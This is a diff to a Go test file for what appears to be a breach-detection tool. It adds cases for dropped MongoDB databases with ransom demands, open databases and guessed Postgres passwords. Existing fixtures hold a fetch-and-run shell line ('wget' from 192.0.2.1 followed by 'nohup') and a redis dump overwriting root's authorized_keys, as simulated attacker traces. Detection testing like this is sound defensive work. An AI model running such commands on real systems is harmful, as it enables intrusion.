@@ -82,6 +82,11 @@ func typed(what string, l detect.Level) detect.Finding {
 	return detect.Finding{Detection: "D36", What: detect.Command, Mechanism: "history", Title: "bob typed", Account: "bob", Runs: what, Level: l, Rung: evidence.Effect, Path: "/home/bob/.bash_history", Count: 1, When: []evidence.Time{at("03:10:01")}, For: quote("/home/bob/.bash_history")}
 }
 
+// ransom is a demand that somebody left in the place of what he dropped.
+func ransom(source string, l detect.Level) detect.Finding {
+	return detect.Finding{Detection: "D76", What: detect.Destroyed, Title: "2 databases were dropped, and a demand was left in their place", Service: "mongodb", Source: source, Level: l, Rung: evidence.Effect, Count: 2, First: at("03:00:00"), Last: at("03:00:05"), For: quote("/var/log/mongodb/mongod.log")}
+}
+
 // TestVectors has for each way in what shows it, and beside it what looks like it and is none.
 func TestVectors(t *testing.T) {
 	amy := login(detect.Login, "amy", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true})
@@ -99,6 +104,7 @@ func TestVectors(t *testing.T) {
 	effects := []detect.Finding{dropped("/tmp/.x/y", "03:00:02", detect.High), crontab("www-data", "03:00:05")}
 	dump := detect.Finding{Detection: "D29", What: detect.DatabaseDid, Title: "redis wrote", Detail: "wrote its dump over /root/.ssh/authorized_keys", Service: "redis", Path: "/root/.ssh/authorized_keys", Level: detect.Critical, Rung: evidence.Effect,
 		First: at("02:00:00"), Last: at("02:00:00"), For: quote("/root/.ssh/authorized_keys")}
+	open := detect.Finding{Detection: "D32", What: detect.Exposed, Title: "mongodb asks nobody who he is", Service: "mongodb", Level: detect.Medium, Rung: evidence.Accepted, Count: 3, First: at("00:00:00"), Last: at("03:00:00"), For: quote("/var/log/mongodb/mongod.log")}
 	for _, tc := range []struct {
 		name, vector, account string
 		sources               []string
@@ -135,6 +141,11 @@ func TestVectors(t *testing.T) {
 		{"a history that another session wrote", "", "", nil, []detect.Finding{amy, with(foreign, func(f *detect.Finding) { f.Access.Sessions[0].End = at("05:00:00") }), typed("wget http://192.0.2.1/x -O /tmp/.x/y", detect.High), typed("nohup /tmp/.x/y &", detect.High)}},
 		{"a redis dump that was saved once more behind the login", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, with(dump, func(f *detect.Finding) { f.First, f.Last = at("03:00:00"), at("03:00:00") }), key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "03:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
 		{"a redis dump with a key that was used", "database-exposed", "root", []string{"203.0.113.8"}, []detect.Finding{amy, dump, key("SHA256:bad", "/root/.ssh/authorized_keys", "root", "02:00:00"), byKey("root", "203.0.113.8", "SHA256:bad", "02:10:00", "02:20:00")}},
+		{"a demand in the place of data", "database-exposed", "", []string{"203.0.113.6"}, []detect.Finding{amy, ransom("203.0.113.6", detect.Critical), open}},
+		{"a demand, and nobody knows whose", "unknown", "", []string{}, []detect.Finding{amy, ransom("", detect.Critical)}},
+		{"a name like a demand's, and nothing was dropped", "", "", nil, []detect.Finding{amy, ransom("203.0.113.6", detect.Medium), open}},
+		{"a database that stands open", "", "", nil, []detect.Finding{amy, open}},
+		{"a database's password was guessed", "database-exposed", "postgres", []string{"203.0.113.6"}, []detect.Finding{amy, with(guessed("03:00:00", "03:10:00"), func(f *detect.Finding) { f.Service, f.Account = "postgresql", "postgres" })}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			s := Build(t.Context(), tc.findings, full())
